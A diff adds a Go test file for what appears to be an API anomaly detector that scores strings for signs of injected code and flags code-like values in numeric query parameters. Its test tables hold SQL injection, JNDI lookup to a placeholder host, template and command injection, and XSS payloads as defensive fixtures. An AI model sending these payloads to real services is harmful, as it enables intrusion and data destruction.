@@ -1,0 +1,45 @@
+package apimap
+
+import (
+	"testing"
+
+	"bartizan/internal/signal"
+)
+
+func TestSigns(t *testing.T) {
+	for s, want := range map[string]int{
+		"": 0, "twelve": 0, "12,50": 0, "n/a": 0, "(555) 123-4567": 1, "1'234.50": 1, "<none>": 0, "50%": 0,
+		// Broken programs.
+		"{{user_id}}": 0, "${id}": 0, "%ID%": 0, "[object Object]": 0, "function(){ [native code] }": 0, `{"id":12,"a":"b"}`: 0, `[{"a":1}]`: 0, "undefined": 0,
+		// Code.
+		"1' OR 1=1--": 3, "1;DROP TABLE a--": 2, "${jndi:ldap://203.0.113.66/a}": 2, "{{7*7}}": 2, "$(id)": 2, "1|id;ls": 1, "1) AND SLEEP(5)#": 2,
+		"';alert(String.fromCharCode(88))//": 3, "<svg onload=alert(1)>": 3, `"><img src=x>`: 3,
+	} {
+		if got := signs(s); got != want {
+			t.Errorf("signs(%q): got %d; want %d", s, got, want)
+		}
+	}
+}
+
+// A value with signs of code is odd where only numbers were, and nowhere else.
+func TestOddValue(t *testing.T) {
+	w := newWorld()
+	for i := range 8000 {
+		w.send(call{target: "/orders?page=2&q=red%20shoes&sort=price", client: i % 30})
+	}
+	for target, want := range map[string]bool{
+		"/orders?page=1%27%20OR%201%3D1--&q=red&sort=price": true,
+		"/orders?page=last&q=red&sort=price":                false,
+		"/orders?page=%7B%7Bpage%7D%7D&q=red&sort=price":    false,
+		"/orders?page=2&q=1%27%20OR%201%3D1--&sort=price":   false, // people write there
+		"/orders?page=2&q=red&sort=price%27%20OR%201%3D1--": false, // words may become anything
+	} {
+		got := false
+		for _, s := range w.send(call{target: target, client: 99, status: 400}) {
+			got = got || s.Kind == signal.OddValue
+		}
+		if got != want {
+			t.Errorf("%s: an odd value: got %t; want %t", target, got, want)
+		}
+	}
+}
